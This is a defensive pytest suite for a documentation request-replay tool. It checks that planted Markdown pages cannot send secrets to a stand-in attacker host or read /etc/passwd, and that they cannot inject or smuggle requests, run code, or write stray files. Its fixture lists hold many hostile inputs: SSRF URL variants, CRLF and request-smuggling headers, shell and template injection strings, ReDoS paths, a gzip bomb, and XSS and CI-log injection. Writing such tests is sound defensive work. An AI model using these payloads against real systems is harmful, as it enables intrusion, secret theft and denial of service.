"""What a pull request may plant in pages and files beside them, tried on a real target, near an evil one."""

import json
import re
import socketserver
import threading
import time
import xml.etree.ElementTree as ET
import zlib
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import parse_qs, quote, urlsplit

import pytest
from markdown_it import MarkdownIt

from docparse.cli import main
from docparse.reporting import REPORTERS

TOKEN = "SEKRET-token-Zq81TfLw02mK"
OTHER_SECRETS = {
    "ODC_PROD_SECRET": "SEKRET-prod-Zq81TfLw02mK",
    "oauth_client_secret": "SEKRET-client-Zq81TfLw02mK",
    "STAGING_SECRET": "SEKRET-staging-Zq81TfLw02mK",
}
ID = "SEKRET-given-Zq81TfLw02mK"
"""The value of a variable with a secret's name, which pages may send to the target and nowhere else."""


@dataclass
class Raw:
    """What came to a listener, byte for byte: one text for each request, with its content."""

    answer: Callable[[str], bytes]
    port: int = 0
    connections: int = 0
    requests: list[bytes] = field(default_factory=list)

    @property
    def heads(self) -> list[str]:
        return [request.partition(b"\r\n\r\n")[0].decode("utf-8", "replace") for request in self.requests]

    @property
    def lines(self) -> list[str]:
        """The request lines."""
        return [head.partition("\r\n")[0] for head in self.heads]


@contextmanager
def listen(answer: Callable[[str], bytes]) -> Iterator[Raw]:
    raw = Raw(answer)

    class Handler(socketserver.StreamRequestHandler):
        timeout = 5

        def handle(self) -> None:
            raw.connections += 1
            while request := read_request(self.rfile.readline, self.rfile.read):
                raw.requests.append(request)
                try:
                    answer = raw.answer(request.decode("utf-8", "replace"))
                except (ValueError, KeyError, IndexError):
                    answer = write_answer({}, "400 Bad Request")
                self.wfile.write(answer)

    server = socketserver.ThreadingTCPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    raw.port = server.server_address[1]
    thread = threading.Thread(target=server.serve_forever, args=(0.01,))
    thread.start()
    try:
        yield raw
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


def read_request(read_line: Callable[[], bytes], read: Callable[[int], bytes]) -> bytes:
    """Return the next request as a server reads it that goes by Content-Length alone."""
    head = b""
    while (line := read_line()) not in {b"\r\n", b""}:
        head += line
    length = re.search(rb"(?im)^content-length: *(\d+)", head)
    return head + b"\r\n" + read(int(length[1]) if length else 0) if head else b""


def write_answer(content: object, status: str = "200 OK", *fields: str) -> bytes:
    written = content if isinstance(content, bytes) else json.dumps(content).encode()
    head = "".join(f"{each}\r\n" for each in ("Content-Type: application/json", *fields))
    return f"HTTP/1.1 {status}\r\n{head}Content-Length: {len(written)}\r\n\r\n".encode() + written


def echo(request: str) -> bytes:
    """Say back the content; `/go?to=…&status=…&field=…` sends elsewhere."""
    url = urlsplit(request.split(" ", 2)[1])
    query = {name: values[0] for name, values in parse_qs(url.query).items()}
    content = request.partition("\r\n\r\n")[2]
    if url.path == "/go":
        return write_answer(
            {}, query.get("status", "302 Found"), f"{query.get('field', 'Location')}: {query['to']}"
        )
    if url.path == "/shown":
        return write_answer({"height": "98", "said": request})
    try:
        return write_answer(json.loads(content))
    except ValueError:
        return write_answer({"height": 99})


@dataclass
class Repository:
    """What a pull request changes, the run with secrets, and what came of it."""

    folder: Path
    target: Raw
    evil: Raw
    read_streams: Callable[[], tuple[str, str]]
    out: str = ""
    code: int = -1

    def write(self, path: str, text: str) -> None:
        file = self.folder / "docs" / path
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text(self.fill(text), "utf-8")

    def fill(self, text: str) -> str:
        return text.replace("EVIL", f"127.0.0.1:{self.evil.port}").replace(
            "TARGET", f"127.0.0.1:{self.target.port}"
        )

    def replay(self, *arguments: str) -> str:
        """Replay as a careless person does: writes, redirects, all that there is; return what it told."""
        target = f"http://127.0.0.1:{self.target.port}"
        self.code = main(
            ["replay", "docs", "--target", target, "--follow-redirects", "--tries", "1", "-vv", *arguments]
        )
        out, err = self.read_streams()
        self.out += out + err
        assert "fault of docparse" not in err
        self.check()
        return out + err

    def check(self) -> None:
        """Assert what holds of every run."""
        assert self.evil.connections == 0
        assert "SEKRET" not in self.out
        host = f"127.0.0.1:{self.target.port}"
        for request in self.target.requests:
            text = request.decode("utf-8", "replace")
            head = text.partition("\r\n\r\n")[0]
            assert re.findall(r"(?im)^host: *(.*?)\r?$", head) == [host]
            assert re.findall(r"(?im)^authorization *: *(.*?)\r?$", head) in (
                [f"Bearer {TOKEN}"],
                ["Bearer scenario's"],
            )
            assert text.count(TOKEN) <= 1
            assert not [secret for secret in OTHER_SECRETS.values() if secret in text]
            assert "root:x:" not in text
            assert "x-evil" not in {line.partition(":")[0].lower() for line in head.split("\r\n")}
            assert not re.search(r"(?im)^transfer-encoding", head)


@pytest.fixture
def repository(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> Iterator[Repository]:
    (tmp_path / "docs").mkdir()
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("DOCPARSE_CACHE", str(tmp_path / "cache"))
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.setenv("DOCPARSE_TOKEN", TOKEN)
    monkeypatch.setenv("DOCPARSE_VAR_API_KEY", ID)
    for name, value in OTHER_SECRETS.items():
        monkeypatch.setenv(name, value)
    (tmp_path / ".netrc").write_text(
        f"default login jo password {OTHER_SECRETS['ODC_PROD_SECRET']}\n", "utf-8"
    )
    (tmp_path / "docparse.toml").write_text('doc-hosts = { "https://api.example" = "/" }\n', "utf-8")
    with listen(echo) as target, listen(lambda _: write_answer({"access_token": "evil"})) as evil:
        yield Repository(tmp_path, target, evil, lambda: tuple(capsys.readouterr()))


def page(
    request: str,
    *,
    name: str = "one",
    response: str = 'HTTP/1.1 200 OK\n\n{"height": 99}',
    refine: object = None,
    **more: object,
) -> str:
    annotation = {"blockType": "request", "name": name, **more} | ({"docparse": refine} if refine else {})
    return (
        f"<!-- {json.dumps(annotation)} -->\n```http\n{request}\n```\n\n"
        f'<!-- {{"blockType": "response"}} -->\n```http\n{response}\n```\n\n'
    )


HONEST = page("GET https://api.example/honest", name="honest")


def test_an_honest_page_is_sent_with_the_token(repository: Repository) -> None:
    repository.write("a.md", page("GET /photos?k={api-key}"))
    repository.replay()
    assert repository.code == 0
    assert repository.target.lines == [f"GET /photos?k={ID} HTTP/1.1"]


MADE = "POST https://api.example/made\nContent-Type: application/json"
OTHER_HOSTS = (
    "http://EVIL/a",
    "HTTP://EVIL/a",
    "//EVIL/a",
    "///EVIL/a",
    "http:/EVIL/a",
    "http:EVIL/a",
    "http:\\\\EVIL\\a",
    "\\\\EVIL\\a",
    "/\\EVIL/a",
    "\\/EVIL/a",
    "http://TARGET@EVIL/a",
    "http://api.example@EVIL/a",
    "http://EVIL#@api.example/",
    "http://EVIL\\@api.example/",
    "http://api.example\\@EVIL/",
    "ftp://EVIL/a",
    "gopher://EVIL/_x",
    "file:///etc/passwd",
    "file://EVIL/etc/passwd",
    "unix:///tmp/x",
    "@EVIL/a",
    ":@EVIL/a",
    ".EVIL/a",
    ":80@EVIL/",
    "?@EVIL/",
    "#@EVIL/",
    "http://{host}/a",
    "{host}/a",
    "//{host}/a",
    "http://api.example{host}/a",
    "https://api.example:{host}/",
    "/%2F%2FEVIL/a",
    "/..//EVIL/a",
    "http://EVIL:80:80/",
    "http://[::ffff:127.0.0.1]/",
    "http://EVIL%2f@api.example/",
    "http://EVIL%00.api.example/",
    "http://EVIL\u3002api.example/",
    "\u2215\u2215EVIL/a",
    "*",
    "EVIL",
    "http://EVIL",
    "  http://EVIL/a",
    "http://\tEVIL/a",
    "https://api.example/\thttp://EVIL/",
)


@pytest.mark.parametrize("value", ["", "@EVIL", "EVIL", "http://EVIL", "//EVIL", "/\\EVIL", "1@EVIL/"])
def test_a_page_cannot_name_another_host(repository: Repository, value: str) -> None:
    planted = "".join(
        page(f"{method} {target}", name=f"n{number}{method}")
        for number, target in enumerate(OTHER_HOSTS)
        for method in ("GET", "POST")
    )
    honest = "".join(HONEST.replace('"honest"', f'"h{number}"') for number in range(60))
    repository.write("a.md", honest + planted)
    repository.replay(*(["--var", repository.fill(f"host={value}")] if value else []))
    assert len(repository.target.requests) > 60


@pytest.mark.parametrize(
    "fields",
    [
        "Host: EVIL",
        "host : EVIL",
        "Host: TARGET\nHost: EVIL",
        "X-Forwarded-Host: EVIL\nForwarded: host=EVIL\nX-Original-URL: http://EVIL/",
        "Proxy-Connection: keep-alive\nUpgrade: h2c\nConnection: Upgrade, Authorization",
        "Proxy: http://EVIL\nHTTP-Proxy: http://EVIL",
        "Referer: http://EVIL/\nOrigin: http://EVIL",
    ],
)
def test_a_page_cannot_name_another_host_in_a_field(repository: Repository, fields: str) -> None:
    repository.write("a.md", page(f"GET /a\n{fields}"))
    repository.replay()
    assert len(repository.target.requests) == 1
    assert "\r\nConnection:" not in repository.target.heads[0]


@pytest.mark.parametrize(
    "status", ["301 M", "302 F", "303 S", "307 T", "308 P", "201 C", "202 A", "300 M", "401 U"]
)
def test_an_answer_leads_nowhere_else(repository: Repository, status: str) -> None:
    fields = ("Location", "Operation-Location", "Azure-AsyncOperation", "Content-Location", "Refresh")
    hosts = ("http://EVIL/", "//EVIL/", "http://TARGET@EVIL/", "http:\\\\EVIL/")
    requests = [
        f"GET /go?status={quote(status)}&field={field}&to={quote(repository.fill(host), '')}"
        for field in fields
        for host in hosts
    ]
    refine = {"redirects": True, "poll": True, "timeout": 0.4}
    pages = (page(request, name=f"n{number}", refine=refine) for number, request in enumerate(requests))
    repository.write("a.md", "".join(pages))
    repository.replay()
    assert len(repository.target.requests) >= len(requests)


CAPTURED = (
    "http://EVIL/a",
    "//EVIL/a",
    "@EVIL/a",
    "http://TARGET@EVIL/",
    "\\\\EVIL",
    "http:EVIL",
    "https://EVIL",
    "/\\EVIL",
)


@pytest.mark.parametrize("value", CAPTURED)
def test_a_captured_url_leads_nowhere_else(repository: Repository, value: str) -> None:
    escaped = json.dumps(value)
    uses = (
        "{upload}",
        "{upload}/more",
        "{upload}?a={api-key}",
        "http://api.example{upload}",
        "//{upload}",
        "http://{upload}/",
        "/{upload}",
    )
    made = page(
        f'{MADE}\n\n{{"height": 99, "url": {escaped}, "@odata.nextLink": {escaped}}}',
        name="make",
        refine={"capture": {"upload": "$.url", "next": "$['@odata.nextLink']"}},
    )
    used = "".join(
        page(f"PUT {use}\n\nx", name=f"use{number}") for number, use in enumerate((*uses, "{next}"))
    )
    repository.write("a.md", made + used + HONEST)
    repository.replay()
    repository.write(
        "b.md",
        page(
            f"GET /go?status=200%20OK&field=Link&to={quote(repository.fill(value), '')}",
            name="linked",
            refine={"capture": {"upload": "Link:"}},
        )
        + page("GET {upload}", name="follow"),
    )
    repository.replay()
    assert len(repository.target.requests) >= 2


def scenario(**more: object) -> str:
    return json.dumps({"scenarios": [{"name": "planted", "method": "one", "enabled": True, **more}]})


JSON_REQUEST = (
    'POST https://api.example/things/{id}\nContent-Type: application/json\n\n{"height": 99, "a": {"b": 1}}'
)


@pytest.mark.parametrize("value", CAPTURED)
def test_a_scenario_cannot_name_another_host(repository: Repository, value: str) -> None:
    repository.write("a.md", page(JSON_REQUEST) + HONEST)
    setup = [
        {"http-request": f"POST {value} HTTP/1.1\nHost: EVIL\n\n{{}}", "allowed-status-codes": [200]},
    ]
    capturing = [
        {
            "http-request": f'{MADE}\n\n{{"url": {json.dumps(value)}}}',
            "capture": {"[url]": "$.url"},
        }
    ]
    for number, more in enumerate(
        (
            {"request-parameters": {"!url": value}},
            {"request-parameters": {"{id}": value}},
            {"request-parameters": {"!url": "{id}", "{id}": value}},
            {"request-parameters": {"!url": f"http://{{id}}{value}", "{id}": "x"}},
            {"request-parameters": {"{id}": "1", "Host:": "EVIL"}},
            {"request-parameters": {"{id}": "1"}, "test-setup": setup},
            {"request-parameters": {"!url": "[url]"}, "test-setup": capturing},
            {"request-parameters": {"{id}": "[url]"}, "test-setup": capturing},
            {"request-parameters": {"!url": "{id}", "{id}": "[url]"}, "test-setup": capturing},
        )
    ):
        repository.write("tests/s.json", scenario(**more))
        repository.replay()
        assert number < 6 or repository.target.requests


ACCOUNT = {
    "name": "staging",
    "enabled": True,
    "clientId": "a",
    "clientSecret": "$env:STAGING_SECRET",
    "refreshToken": "$env:ODC_PROD_SECRET",
    "tokenService": "http://EVIL/token",
    "serviceUrl": "http://EVIL/",
    "additionalHeaders": ["X-Evil: $env:oauth_client_secret"],
}


def test_an_account_file_beside_the_pages_is_not_used(repository: Repository) -> None:
    repository.write("a.md", page("GET /a"))
    repository.write("accounts.json", json.dumps({"accounts": [ACCOUNT]}))
    repository.write("tests/s.json", scenario(scopes=["evil"]))
    repository.replay()
    repository.replay("--dry-run")
    assert repository.target.requests


def test_an_account_file_beside_the_pages_does_not_take_the_place_of_a_given_one(
    repository: Repository,
) -> None:
    repository.write("a.md", page("GET /a"))
    repository.write("accounts.json", json.dumps({"accounts": [ACCOUNT]}))
    own = {"accounts": [{"name": "staging", "oauthType": "Token", "accessToken": TOKEN}]}
    (repository.folder / "own.json").write_text(json.dumps(own), "utf-8")
    repository.replay("--accounts", "own.json", "--account", "staging")
    assert repository.target.requests
    repository.replay("--accounts", "own.json", "--secondary-account", "staging")


BREAKS = (
    "\r\nX-Evil: 1",
    "\nX-Evil: 1",
    "\rX-Evil: 1",
    "\r\n X-Evil: 1",
    "\r\n\r\nGET /evil HTTP/1.1\r\nX-Evil: 1",
    "\u010d\u010aX-Evil: 1",
    "\u2028X-Evil: 1",
    "\x0bX-Evil: 1",
    "\0X-Evil: 1",
)


@pytest.mark.parametrize("broken", BREAKS)
def test_no_value_begins_a_field_of_its_own(repository: Repository, broken: str) -> None:
    value = f"1{broken}"
    own = re.sub("[\r\n]+", "%0d%0a", broken)  # a page may write fields as it likes, each on its line
    made = page(
        f'{MADE}\n\n{{"height": 99, "v": {json.dumps(value)}}}',
        name="make",
        refine={"capture": {"v": "$.v"}},
    )
    use = page("GET /use/{v}?x={v}\nX-A: {v}\nIf-Match: a{v}b", name="use")
    field = page("GET /field\nX-A: {v}", name="field")
    setup = [
        {
            "http-request": f'{MADE}\n\n{{"v": {json.dumps(value)}}}',
            "capture": {"[v]": "$.v"},
        }
    ]
    repository.write(
        "a.md",
        made
        + use
        + field
        + page(JSON_REQUEST)
        + page(f"GET /a{own}", name="line")
        + page(f"GET /a\nX-A: b{own}", name="own"),
    )
    for parameters in (
        {"X-A:": value},
        {"X-A:": "[v]"},
        {f"X-A{broken}:": "1"},
        {"{id}": value, "Authorization:": "Bearer scenario's"},
        {"{id}": "1", "!body": value},
    ):
        repository.write("tests/s.json", scenario(**{"request-parameters": parameters, "test-setup": setup}))
        repository.target.requests.clear()
        repository.replay("--var", f"w={value}")
    assert all(line.endswith(" HTTP/1.1") and line.count(" ") == 2 for line in repository.target.lines)


@pytest.mark.parametrize(
    "fields",
    [
        "Transfer-Encoding: chunked",
        "Transfer-Encoding : chunked",
        "Transfer-Encoding: chunked\nContent-Length: 3",
        "Content-Length: 3",
        "Content-Length: 0\nContent-Length: 100",
        "Content-Length : 0",
        "transfer-encoding: identity, chunked",
        "X: y\n Transfer-Encoding: chunked",
        "Connection: keep-alive, Content-Length\nExpect: 100-continue",
        "Te: trailers\nTrailer: X-Evil",
    ],
)
def test_a_page_cannot_smuggle_a_request(repository: Repository, fields: str) -> None:
    smuggled = "0\r\n\r\nGET /evil HTTP/1.1\r\nX-Evil: 1\r\n\r\n"
    repository.write(
        "a.md",
        page(f"POST /a\nContent-Type: text/plain\n{fields}\n\n{smuggled}") + page("GET /b", name="two"),
    )
    repository.write("b.md", page(JSON_REQUEST, name="one"))
    names = dict(line.split(":", 1) for line in fields.split("\n") if not line.startswith(" "))
    parameters = {f"{name.strip()}:": value.strip() for name, value in names.items()} | {
        "{id}": "1",
        "!body": smuggled,
    }
    repository.write("tests/s.json", scenario(**{"request-parameters": parameters}))
    repository.replay()
    assert {line.split(" ")[1] for line in repository.target.lines} <= {"/a", "/b", "/things/1"}
    for request in repository.target.requests:
        head, _, content = request.partition(b"\r\n\r\n")
        assert re.findall(rb"(?im)^content-length *: *(\d+)", head) in ([str(len(content)).encode()], [])


NAMES = (
    "DOCPARSE_TOKEN",
    "docparse-token",
    "ODC_PROD_SECRET",
    "$env:ODC_PROD_SECRET",
    "env:ODC_PROD_SECRET",
    "STAGING_SECRET",
    "oauth-client-secret",
    "oauth_client_secret",
    "@/etc/passwd",
    "HOME",
    "token",
    "DOCPARSE_VAR_API_KEY.x",
    "__class__",
    "0.__class__",
)


@pytest.mark.parametrize("name", NAMES)
def test_a_page_reads_no_variable_and_no_file(repository: Repository, name: str) -> None:
    texts = (f"{{{name}}}", f"<{name}>", f"{{{{{name}}}}}", f"${{{name}}}", f"$({name})", name)
    for number, text in enumerate(texts):
        json_content = f'Content-Type: application/json\n\n{{"a": {json.dumps(text)}}}'
        repository.write(
            f"p{number}.md",
            page(f"GET /a/{text}?x={text}")
            + page(f"POST /b\n{json_content}", name="two")
            + page(f"GET /c\nX-A: {text}", name="three")
            + page(f"POST /d\nContent-Type: text/plain\n\n{text}", name="four"),
        )
    repository.write("z.md", page(JSON_REQUEST, name="scenic"))
    values = (*texts, f"[{name}]", f"base64([{name}])", f"base64({name})", f"!{name}!", f"${name}")
    scenarios = [
        {
            "name": f"s{number}",
            "method": "scenic",
            "enabled": True,
            "request-parameters": {"{id}": "1", "$.a.b": value, "X-A:": value},
        }
        for number, value in enumerate(values)
    ]
    repository.write("tests/s.json", json.dumps({"scenarios": scenarios}))
    repository.replay()
    home = str(repository.folder).encode()
    assert not [request for request in repository.target.requests if home in request]


@pytest.mark.parametrize(
    "more",
    [
        {"file": "/etc/passwd"},
        {"files": ["/etc/passwd"], "content": "@/etc/passwd", "body": "/etc/passwd"},
        {"refine": {"content": "@/etc/passwd"}},
        {"refine": {"content": "/etc/passwd"}},
        {"refine": {"file": "/etc/passwd"}},
        {"refine": {"types": "/etc/passwd", "capture": {"x": "/etc/passwd"}, "after": "/etc/passwd"}},
    ],
)
def test_an_annotation_reads_no_file(repository: Repository, more: dict[str, object]) -> None:
    repository.write(
        "a.md",
        page("PUT /a\nContent-Type: text/plain\n\n@/etc/passwd", **more)
        + page("PUT /b\n\n<file contents>", name="two", **more),
    )
    repository.write(
        "tests/s.json", scenario(**{"request-parameters": {"!body": "@/etc/passwd", "!file": "/etc/passwd"}})
    )
    repository.replay()
    repository.write("tests/s.json", scenario(**{"request-parameters": {"!body.base64": "@/etc/passwd"}}))
    repository.replay()


def test_nothing_outside_the_working_folder_is_shown(
    repository: Repository, tmp_path_factory: pytest.TempPathFactory
) -> None:
    """A link in the file system, an include, a link in a page."""
    outside = tmp_path_factory.mktemp("outside")
    secret = f'<!-- {{"blockType": "request", {TOKEN} -->\n```http\nGET /{TOKEN}\nX: {TOKEN}\n```\n'
    (outside / "secret.md").write_text(secret, "utf-8")
    (outside / "secret.json").write_text(f'{{"scenarios": [{{"name": "{TOKEN}", "{TOKEN}": 1}}]}}', "utf-8")
    docs = repository.folder / "docs"
    (docs / "link.md").symlink_to(outside / "secret.md")
    (docs / "link.json").symlink_to(outside / "secret.json")
    (docs / "folder").symlink_to(outside)
    repository.write(
        "a.md",
        f"[!INCLUDE [x]({outside}/secret.md)]\n\n[!INCLUDE [x](link.md)]\n\n[!INCLUDE [x](/etc/passwd)]\n\n"
        f"[a]({outside}/secret.md#x) [b](/etc/passwd)\n\n" + HONEST,
    )
    repository.replay()
    for arguments in (
        ["check", "docs", "-vv"],
        ["list", "docs", "-v"],
        ["check", "docs", "--format", "json"],
    ):
        main(arguments)
    out, err = repository.read_streams()
    assert "root:x:" not in out + err
    assert TOKEN not in out + err


CODE = (
    '#System.IO.File.ReadAllText("/etc/passwd")',
    "#1+1",
    "!__import__('os').system('touch pwned')!",
    "{{7*7}}",
    "${7*7}",
    "$(touch pwned)",
    "`touch pwned`",
    "%{touch pwned}",
    "!!python/object/apply:os.system ['touch pwned']",
)


@pytest.mark.parametrize("code", CODE)
def test_no_code_is_run(repository: Repository, code: str) -> None:
    repository.write(
        "a.md",
        page(JSON_REQUEST)
        + page(f"GET /a?x={code}\nX-A: {code}", name=code, refine={"pin": [code], "capture": {"x": code}}),
    )
    for parameters in (
        {"{id}": "1", "$.a.b": code},
        {"{id}": code},
        {"X-A:": code, "{id}": "1"},
        {"!body": code, "{id}": "1"},
        {"!url": f"/{code}"},
    ):
        repository.write(
            "tests/s.json", scenario(**{"request-parameters": parameters, "expectations": {"$.a": code}})
        )
        repository.replay()
    assert not list(repository.folder.rglob("pwned"))
    sent = b"".join(repository.target.requests)
    assert b"49" not in sent.replace(str(repository.target.port).encode(), b"")


PATHS = (
    "$..*..*..*..*",
    "$" + "..*" * 40,
    "$..[?@..a == @..b]",
    "$[?match(@, '(a+)+$')]",
    "$..[?search(@.v, '(a|a)*b')]",
    "$" + "[0]" * 5000,
    "$.a[999999999]",
    "$['" + "a" * 100_000 + "']",
    "$[" + "?(" * 500 + "1" + ")" * 500 + "]",
    "$..[0:999999999:1]",
)


@pytest.mark.parametrize("path", PATHS, ids=range(len(PATHS)))
def test_no_path_takes_for_ever(repository: Repository, path: str) -> None:
    content = {"v": "a" * 40, "list": [{"a": {"b": [{"v": "a" * 30}] * 10}}] * 10, "height": 99}
    request = f"POST https://api.example/things/1\nContent-Type: application/json\n\n{json.dumps(content)}"
    refine = {
        "capture": {"x": path},
        "pin": [path],
        "volatile": [path],
        "unordered": [path],
        "types": {path: "string"},
    }
    repository.write(
        "a.md",
        page(request, refine=refine, response=f"HTTP/1.1 200 OK\n\n{json.dumps(content)}")
        + page("GET /x/{x}", name="two"),
    )
    repository.write(
        "tests/s.json",
        scenario(
            **{
                "request-parameters": {path: 1},
                "expectations": {path: 1},
                "test-setup": [{"method": "one", "capture": {"[x]": path}}],
            }
        ),
    )
    started = time.monotonic()
    repository.replay()
    assert time.monotonic() - started < 5


def bomb() -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    content = b"".join(packer.compress(b" " * 1_000_000) for _ in range(200)) + packer.flush()
    return write_answer(content, "200 OK", "Content-Encoding: gzip")


@pytest.mark.parametrize(
    "answer",
    [
        pytest.param(bomb(), id="gzip bomb"),
        pytest.param(write_answer(b"[" * 200_000), id="deep"),
        pytest.param(write_answer(b'{"a":' * 50_000 + b"1" + b"}" * 50_000), id="deep objects"),
        pytest.param(write_answer(b'{"height": ' + b"9" * 200_000 + b"}"), id="a long number"),
        pytest.param(write_answer(b'{"height": 1e999999999}'), id="a huge number"),
        pytest.param(
            write_answer({}, "200 OK", *(f"X-{number}: a" for number in range(2000))), id="many fields"
        ),
        pytest.param(write_answer(b'{"height": "' + b"\\" * 300_001), id="escapes"),
        pytest.param(
            write_answer(b'{"height": "' + b"&%41\\u0041\n" * 30_000 + b'"}'), id="what is unravelled"
        ),
    ],
)
def test_no_answer_is_a_bomb(repository: Repository, answer: bytes) -> None:
    repository.target.answer = lambda _: answer
    repository.write("a.md", page("GET /a"))
    started = time.monotonic()
    repository.replay("--format", "json=out.json", "--format", "text")
    assert time.monotonic() - started < 5
    assert repository.code in {0, 1, 4}


NASTY = (
    "\x1b[2J\x1b]0;owned\x07",
    "\x1b]8;;http://evil.example\x1b\\x",
    "\x9b31m",
    "\u202eevil\u2066",
    "\r\n::error::owned",
    "\n::set-output name=x::owned",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "]]><x/>",
    "&lt;x",
    "\0\x08\x7f",
    "![x](http://evil.example/x.png)",
    "[click](javascript:alert(1))",
    "\n\n# Owned\n",
    "| a | b |\n|--|--|",
    "@everyone #1",
    "\n##[error]owned",
    "%0A::error::owned",
    "\ud800",
    "\uffff\ufffe",
    "```\n# Owned",
    "</details>",
)
CONTROLS = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ufffe\uffff]")


def find_markup(text: str) -> list[str]:
    """Return what of a page's or a service's Markdown and HTML would be obeyed where a report is shown."""
    waiting = MarkdownIt("gfm-like", {"linkify": False}).parse(text)
    found = []
    while waiting:
        token = waiting.pop()
        waiting += token.children or []
        if token.type.startswith("html") and re.search(r"<(?:script|img|x/)", token.content):
            found.append(token.content)
        if token.type == "image" or "javascript:" in str(token.attrGet("href")):
            found.append(token.type)
        if token.type == "inline" and token.content.strip() == "Owned":
            found.append("heading")
    return found


@pytest.mark.parametrize("nasty", NASTY, ids=range(len(NASTY)))
def test_nothing_nasty_comes_through(repository: Repository, nasty: str) -> None:
    shown = {"height": "98", "v": nasty, nasty: {"x": nasty}, "error": {"message": nasty}}
    said = nasty.encode("utf-8", "replace").translate(None, b"\r\n\0")

    def answer(_: str) -> bytes:
        whole = write_answer(shown, "500 " + "Reason", "X-A: other")
        return whole.replace(b"Reason", b"Reason " + said, 1).replace(b"X-A: other", b"X-A: " + said, 1)

    repository.target.answer = answer
    name = f"n{nasty}".replace("\ud800", "?")
    text = page(
        f"GET /a?x={nasty}\nX-A: b",
        name=name,
        response=f'HTTP/1.1 200 OK\nX-A: b\n\n{{"height": 99, "v": "a", {json.dumps(nasty)}: {{"x": 1}}}}',
    ).replace("\ud800", "?")
    repository.write(
        "a.md", text + page("GET /b\nX-A: b", response='HTTP/1.1 200 OK\nX-A: b\n\n{"height": 99, "v": 1}')
    )
    repository.write(
        "tests/s.json", scenario(name=nasty, expectations={"$.v": nasty}).replace("\\ud800", "?")
    )
    files = [each for report in REPORTERS for each in ("--format", f"{report}=out/{report}")]
    (repository.folder / "out").mkdir()
    told = repository.replay(*files, "--format", "text", "--color", "never")
    assert not CONTROLS.search(told)
    for file in (repository.folder / "out").iterdir():
        written = file.read_bytes().decode("utf-8")
        assert not CONTROLS.search(written), file.name
        assert not re.search(r"(?m)^(?:::error::owned|::set-output|##\[error\]owned)", written), file.name
    assert not find_markup((repository.folder / "out" / "markdown").read_text("utf-8"))
    ET.fromstring((repository.folder / "out" / "junit").read_text("utf-8"))  # noqa: S314 - our own
    json.loads((repository.folder / "out" / "sarif").read_text("utf-8"))
    assert (repository.folder / "out" / "github").read_text("utf-8").count("\n::") <= told.count(
        "FAILED"
    ) * 12


def test_a_proxy_of_the_environment_is_not_asked_for_a_loopback_target(
    repository: Repository, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name in ("http_proxy", "HTTPS_PROXY", "ALL_PROXY"):
        monkeypatch.setenv(name, repository.fill("http://EVIL"))
    repository.write("a.md", page("GET /a") + page("GET http://EVIL/b", name="two"))
    repository.replay()
    assert repository.target.lines[0] == "GET /a HTTP/1.1"


def test_a_page_writes_no_file(repository: Repository) -> None:
    before = {path for path in repository.folder.rglob("*") if "cache" not in path.parts}
    refine = {"capture": {"../../x": "$.height"}}
    repository.write(
        "a.md",
        page("GET /a", name="../../../x", refine=refine, baseline="x", output="../x", format="json=x"),
    )
    repository.write("tests/s.json", scenario(name="../../../x", output="x"))
    repository.replay()
    after = {path for path in repository.folder.rglob("*") if "cache" not in path.parts}
    assert {path.name for path in after - before} <= {"a.md", "tests", "s.json"}
